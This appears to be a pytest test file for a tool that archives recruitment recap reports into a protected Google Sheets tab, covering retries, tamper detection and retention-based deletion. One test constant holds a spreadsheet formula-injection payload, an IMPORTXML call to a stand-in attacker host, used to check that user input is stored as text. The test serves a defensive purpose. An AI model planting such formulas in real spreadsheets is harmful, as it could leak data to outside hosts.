"""An office at Google whose recaps stand in an archive's spreadsheet that staff made and shared."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from flows.commands.archive import verify
from flows.procedure.cases import Source
from flows.workbook.flow_tabs import ARCHIVE, DISPOSAL, RECAP
from flows.workbook.tabs import PERIODS, RECAP_RECIPIENTS, VACANCIES
from tests.documents.poppler import pages
from tests.google_emulator import Colleague, Spreadsheet
from tests.steps.google_world import World, vacancy, world
from tests.steps.test_google_retention import NAME, YEARS, put, retain

DAY = 86_400.0
FEEDBACK = '=IMPORTXML("https://jahat.example","//a")'


@dataclass
class Archived:
    """The office, and the spreadsheet of its archive."""

    made: World
    book: Spreadsheet
    title: str

    @property
    def staff(self) -> Colleague:
        return self.made.google.colleague(self.book)

    def rows(self) -> list[list[Any]]:
        return self.staff.rows(self.title)


@pytest.fixture
def archived(tmp_path: Path) -> Iterator[Archived]:
    """A vacancy closed and was answered; the period is over, approved, and is archived by the next tick."""
    with world(tmp_path) as made:
        book = made.google.create_spreadsheet("Arsip Rekap")
        config = made.folder / "loker.toml"
        config.write_text(f'{config.read_text("utf-8")}[archive]\nspreadsheet_id = "{book.id}"\n', "utf-8")
        today = (made.now() + timedelta(hours=7)).date()
        closed, last = today + timedelta(days=1), today + timedelta(days=2)
        made.type(VACANCIES, [vacancy(1, **{"Batas Lamaran": f"{closed:%d/%m/%Y}"})])
        made.tick()
        period = {
            "Judul": "Uji", "Dari": f"{today:%d/%m/%Y}", "Sampai": f"{last:%d/%m/%Y}", "Status": "Setuju",
            "Disetujui Oleh": "Rina",
        }  # fmt: skip
        made.google.clock.advance(8 * DAY)
        made.tick()
        with made.office() as office:
            [case] = office.ledger.responses.cases()
            answers = {"applied": 5, "accepted": 2, "suggestions": FEEDBACK}
            office.ledger.responses.answer(case.partner_id, case.vacancy, answers, office.clock(), Source.FORM)
        made.type(PERIODS, [period])
        made.type(RECAP_RECIPIENTS, [{"Nama": "Sari", "Email": "pudir3@example.ac.id", "Cakupan": "Semua"}])
        made.tick()
        yield Archived(made, book, f"rekap-{today.isoformat()}_{last.isoformat()}-rev0")


def found(archived: Archived, capsys: pytest.CaptureFixture[str]) -> str:
    """What `loker archive verify` finds."""
    capsys.readouterr()
    verify(archived.made.folder / "loker.toml")
    return "\n".join(line for line in capsys.readouterr().out.splitlines() if not line.endswith("findings"))


def test_the_recap_stands_there_in_a_protected_tab(archived: Archived, capsys: pytest.CaptureFixture[str]) -> None:
    archived.made.tick()
    assert FEEDBACK in [cell for row in archived.rows() for cell in row], "what a partner typed is text, no formula"
    sheet = archived.book.sheet(archived.title)
    assert sheet is not None
    [protected] = sheet.protected
    assert protected["editors"]["users"] == [archived.made.google.credentials()["client_email"]]
    assert [row["Judul"] for row in archived.made.rows(ARCHIVE)] == ["Uji", "Uji"]
    assert archived.made.rows(RECAP) == []
    assert found(archived, capsys) == ""


def test_it_is_written_once(archived: Archived) -> None:
    archived.made.tick()
    archived.made.google.log.clear()
    archived.made.tick()
    assert [call for call in archived.made.google.log if archived.book.id in call.path] == []


@pytest.mark.parametrize(
    "fault",
    [
        {"action": 503, "on": "batchUpdate", "times": 1_000},
        {"action": "lost", "on": "spreadsheets.batchUpdate"},
        {"action": 503, "on": "values.batchUpdate", "times": 1_000},
    ],
    ids=["nothing is written", "the reply of its making is lost", "no cells are written"],
)
def test_what_is_out_of_reach_in_one_run_is_written_in_the_next(
    archived: Archived, fault: dict[str, Any], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("flows.google.connection.ATTEMPTS", 1)
    archived.made.google.fail(**fault)
    archived.made.tick(patient=False)
    assert len(archived.made.mail.messages) > 0, "it is archived and sent all the same"
    archived.made.tick()
    assert FEEDBACK in [cell for row in archived.rows() for cell in row]
    assert found(archived, capsys) == ""


def test_a_tab_that_somebody_altered_or_deleted_is_found(
    archived: Archived, capsys: pytest.CaptureFixture[str]
) -> None:
    archived.made.tick()
    archived.staff.type(archived.title, "B3", "999")
    assert found(archived, capsys) == f"{archived.title}: its tab in the archive's spreadsheet differs from its file"
    archived.staff.delete_tab(archived.title)
    assert found(archived, capsys) == f"{archived.title}: has no tab in the archive's spreadsheet"


def approve(archived: Archived) -> None:
    """Seven years on, somebody agrees that the recaps may go."""
    archived.made.google.clock.advance(YEARS)
    retain(archived.made)
    kinds = [row["Jenis"] for row in archived.made.rows(DISPOSAL)]
    put(archived.made, DISPOSAL.title, kinds.index("Rekapitulasi Hasil Perekrutan") + 2, NAME, "Rina")


def titles(archived: Archived) -> list[str]:
    return [sheet.title for sheet in archived.book.sheets]


def report(archived: Archived) -> str:
    """What the record of the disposal says, without spaces: a title may go over two lines."""
    with archived.made.office() as office:
        [entry] = office.ledger.archive.entries("disposal")
        content = office.archive.read(entry.path)
    assert content is not None
    return "".join("".join(pages(content)).split())


def test_it_goes_with_the_recap_and_the_record_says_so(archived: Archived) -> None:
    archived.made.tick()
    before = titles(archived)
    approve(archived)
    assert titles(archived) == before, "nothing goes before it is approved and settled"
    assert retain(archived.made) == 2
    assert titles(archived) == [one for one in before if one != archived.title]
    assert f"dihapus:{archived.title}." in report(archived)
    archived.made.google.log.clear()
    retain(archived.made)
    assert [call for call in archived.made.google.log if archived.book.id in call.path] == []


def test_a_tab_of_staff_s_that_bears_its_title_stays(archived: Archived) -> None:
    archived.made.tick()
    approve(archived)
    archived.staff.delete_tab(archived.title)
    archived.staff.add_tab(archived.title)
    archived.staff.type(archived.title, "A1", "Catatan kami")
    retain(archived.made)
    assert archived.rows() == [["Catatan kami"]]


@pytest.mark.parametrize(
    "fault",
    [
        {"action": 503, "on": "spreadsheets.batchUpdate", "times": 1_000},
        {"action": "lost", "on": "spreadsheets.batchUpdate"},
    ],
    ids=["nothing is deleted", "the reply is lost"],
)
def test_what_cannot_be_deleted_in_one_run_is_in_the_next(
    archived: Archived, fault: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    archived.made.tick()
    for title in titles(archived):
        if title != archived.title:
            archived.staff.delete_tab(title)  # and it is the last one, which Google keeps
    approve(archived)
    monkeypatch.setattr("flows.google.connection.ATTEMPTS", 1)
    archived.made.google.fail(**fault)
    retain(archived.made)
    archived.made.google.rules.clear()
    retain(archived.made)
    assert titles(archived) == ["Kosong"]
